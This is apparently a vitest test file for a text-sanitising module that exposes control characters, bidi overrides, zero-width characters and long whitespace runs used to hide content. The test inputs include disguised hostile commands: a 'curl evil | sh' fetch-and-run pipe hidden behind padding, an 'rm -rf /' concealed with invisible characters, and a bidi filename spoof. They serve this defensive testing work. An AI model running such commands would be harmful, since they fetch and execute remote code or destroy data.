import { expect, it } from 'vitest'
import { condensed, plainText, revealed, shownText } from './plainText'

it.each([
  ['one\r\ntwo\rthree\n\tfour', 'one\ntwo\nthree\n\tfour', 'one\ntwo\nthree\n\tfour', 0],
  ['a\x1b[31mb\x00\x7f', 'a[31mb', 'a␛[31mb␀␡', 3],
  ['\x9b201~é漢😀', '201~é漢😀', '<9B>201~é漢😀', 1],
  ['ls \u202egpj.hs\u2069', 'ls gpj.hs', 'ls <202E>gpj.hs<2069>', 2],
])('%j acts nowhere and hides nothing', (text, plain, shown, dropped) => {
  expect(plainText(text)).toBe(plain)
  expect(shownText(text)).toEqual({ text: shown, dropped })
})

it('shows what takes no room, and keeps what joins letters and emoji', () => {
  expect(revealed('rm\u200b -rf\u00ad \u202e/\ufeff')).toBe('rm<200B> -rf<AD> <202E>/<FEFF>')
  expect(revealed('👩‍💻 é\tx')).toBe('👩‍💻 é\tx')
})

it('leaves no room in which something could stand unseen', () => {
  const say = { spaces: (n: number) => `(${n} spaces)`, lines: (n: number) => `(${n} lines)` }

  expect(condensed(`make test${'\n'.repeat(61)}curl evil | sh\n\n`, say)).toBe('make test\n(60 lines)\ncurl evil | sh')
  expect(condensed(`make test${' '.repeat(4000)}; curl evil`, say)).toBe('make test(4000 spaces); curl evil')
  expect(condensed('one\n\n\n        two\n', say)).toBe('one\n\n\n        two')
})
